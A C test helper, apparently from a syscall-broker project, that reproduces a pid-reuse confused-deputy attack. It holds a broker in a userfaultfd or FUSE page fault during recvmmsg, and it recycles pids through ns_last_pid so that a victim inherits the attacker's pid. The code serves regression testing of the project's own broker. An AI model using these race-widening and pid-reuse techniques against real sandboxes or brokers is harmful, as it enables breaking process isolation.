/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* Attacker for the pid-reuse deputy (issue 6 finding 1), run under "mmsgate run". The parent
 * forks the attacker and reaps it when it dies ("reaped pid=N"). The attacker queues two
 * datagrams and calls recvmmsg (299) with vlen 2 where entry 1's header sits on a page
 * registered with userfaultfd and never populated: a broker reading entry 1 blocks in that
 * fault until the uffd is closed ("attack-pidreuse uffd"), or, with "attack-pidreuse fuse FILE",
 * maps that page from FILE on a FUSE mount that holds every read until the test releases it. It
 * prints "ready pid=N uffd=FD addr=0xA len=L" first (uffd -1 for fuse), so the test can take the
 * uffd (pidfd_getfd), kill this process and give its pid to a victim. It never exits by
 * itself. */
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 4096ul
/* Fixed, so the victim can map its canary at the very same addresses. In ASan's "high memory"
 * and outside its allocator's space, so a sanitized test process can map it too. */
#define REGION ((void *)0x3f0000000000ul)
#define NR_X86_64_RECVMMSG 299

static int fail(const char *what)
{
    printf("error %s: %s\n", what, strerror(errno));
    fflush(stdout);
    return 1;
}

static int queue_datagrams(int *ret_sock)
{
    struct sockaddr_in sin = {.sin_family = AF_INET};
    socklen_t len = sizeof(sin);
    int s = socket(AF_INET, SOCK_DGRAM, 0), tx = socket(AF_INET, SOCK_DGRAM, 0);

    if (s < 0 || tx < 0)
        return -1;
    sin.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (bind(s, (struct sockaddr *)&sin, sizeof(sin)) < 0 ||
        getsockname(s, (struct sockaddr *)&sin, &len) < 0)
        return -1;
    for (int i = 0; i < 2; i++) {
        char msg[32];
        int n = snprintf(msg, sizeof(msg), "DATAGRAM-%d-FOR-THE-CALLER", i);

        if (sendto(tx, msg, (size_t)n, 0, (struct sockaddr *)&sin, sizeof(sin)) != n)
            return -1;
    }
    close(tx);
    *ret_sock = s;
    return 0;
}

static int attacker(const char *fuse_file)
{
    struct uffdio_api api = {.api = UFFD_API};
    struct uffdio_register reg;
    struct mmsghdr *v;
    struct iovec *iov;
    char *base;
    int sock, uffd;
    long r;

    base = mmap(REGION, 2 * PAGE, PROT_READ | PROT_WRITE,
                MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
    if (base == MAP_FAILED)
        return fail("mmap");
    /* Page 0: buffers, names, iovecs and entry 0. Page 1 is never touched by us. */
    memset(base, 0, PAGE);
    iov = (struct iovec *)(base + 1024);
    iov[0] = (struct iovec){base, 256};
    v = (struct mmsghdr *)(base + PAGE - sizeof(struct mmsghdr));
    v[0].msg_hdr = (struct msghdr){
        .msg_name = base + 512, .msg_namelen = 128, .msg_iov = &iov[0], .msg_iovlen = 1};
    if (fuse_file) {
        int fd = open(fuse_file, O_RDONLY | O_CLOEXEC);

        uffd = -1;
        if (fd < 0 || mmap(base + PAGE, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_FIXED, fd,
                           0) == MAP_FAILED)
            return fail("mapping the FUSE file");
        close(fd); /* the mapping keeps the file */
    } else {
        uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
        if (uffd < 0)
            return fail("userfaultfd");
        if (ioctl(uffd, UFFDIO_API, &api) < 0)
            return fail("UFFDIO_API");
        reg = (struct uffdio_register){.range = {(uintptr_t)base + PAGE, PAGE},
                                       .mode = UFFDIO_REGISTER_MODE_MISSING};
        if (ioctl(uffd, UFFDIO_REGISTER, &reg) < 0)
            return fail("UFFDIO_REGISTER");
    }
    if (queue_datagrams(&sock) < 0)
        return fail("queueing datagrams");
    printf("ready pid=%d uffd=%d addr=%p len=%lu\n", (int)getpid(), uffd, (void *)base, 2 * PAGE);
    fflush(stdout);
    r = syscall(NR_X86_64_RECVMMSG, sock, v, 2, 0, NULL);
    printf("call ret=%ld errno=%d\n", r, r < 0 ? errno : 0);
    fflush(stdout);
    /* Alive until the test kills it, whatever the call did: the test takes the uffd from this
     * process after "ready", and a broker that was not held by the fault would otherwise let
     * it exit first (seen once in 11 runs on a loaded machine: pidfd_open failed, ESRCH). */
    for (;;)
        pause();
}

/* One recvmmsg named @name (PR_SET_NAME) on a socket with one datagram queued, MSG_DONTWAIT.
 * Return: the result, or -errno. */
static long named_call(const char *name, int sock)
{
    char buf[64];
    struct iovec iov = {buf, sizeof(buf)};
    struct mmsghdr m = {.msg_hdr = {.msg_iov = &iov, .msg_iovlen = 1}};
    long r;

    (void)prctl(PR_SET_NAME, name);
    r = syscall(NR_X86_64_RECVMMSG, sock, &m, 1, MSG_DONTWAIT, NULL);
    return r < 0 ? -errno : r;
}

/* "attack-pidreuse reuse", in a pid namespace of its own: a process makes a call and exits, a
 * new one is given its pid (ns_last_pid) and makes two calls, renamed in between. The broker
 * kept the first one's handles; the second's calls must go to it, under its own names. */
static int reuse(void)
{
    pid_t first, second;
    int fd;

    first = fork();
    if (first == 0) {
        int sock;

        if (queue_datagrams(&sock) < 0)
            _exit(fail("queueing datagrams"));
        printf("first pid=%d ret=%ld\n", (int)getpid(), named_call("first-caller", sock));
        fflush(stdout);
        _exit(0);
    }
    if (first < 0 || waitpid(first, NULL, 0) != first)
        return fail("first caller");
    fd = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
    if (fd < 0 || dprintf(fd, "%d", (int)first - 1) < 0)
        return fail("ns_last_pid");
    close(fd);
    second = fork();
    if (second == 0) {
        int sock;
        long r1, r2;

        if (queue_datagrams(&sock) < 0)
            _exit(fail("queueing datagrams"));
        r1 = named_call("second-caller", sock);
        r2 = named_call("renamed-caller", sock);
        printf("second pid=%d ret=%ld,%ld\n", (int)getpid(), r1, r2);
        fflush(stdout);
        _exit(0);
    }
    if (second < 0 || waitpid(second, NULL, 0) != second)
        return fail("second caller");
    printf("done\n");
    return 0;
}

int main(int argc, char **argv)
{
    const char *fuse_file = NULL;
    int status = 0;
    pid_t pid;

    if (argc == 2 && strcmp(argv[1], "reuse") == 0)
        return reuse();
    if (argc == 3 && strcmp(argv[1], "fuse") == 0)
        fuse_file = argv[2];
    else if (argc != 2 || strcmp(argv[1], "uffd") != 0)
        return 2;
    setvbuf(stdout, NULL, _IOLBF, 0);
    pid = fork();
    if (pid < 0)
        return fail("fork");
    if (pid == 0)
        _exit(attacker(fuse_file));
    if (waitpid(pid, &status, 0) != pid)
        return fail("waitpid");
    printf("reaped pid=%d status=0x%x\n", (int)pid, (unsigned)status);
    fflush(stdout);
    /* Keep the broker serving until the test ends it. */
    for (;;)
        pause();
}
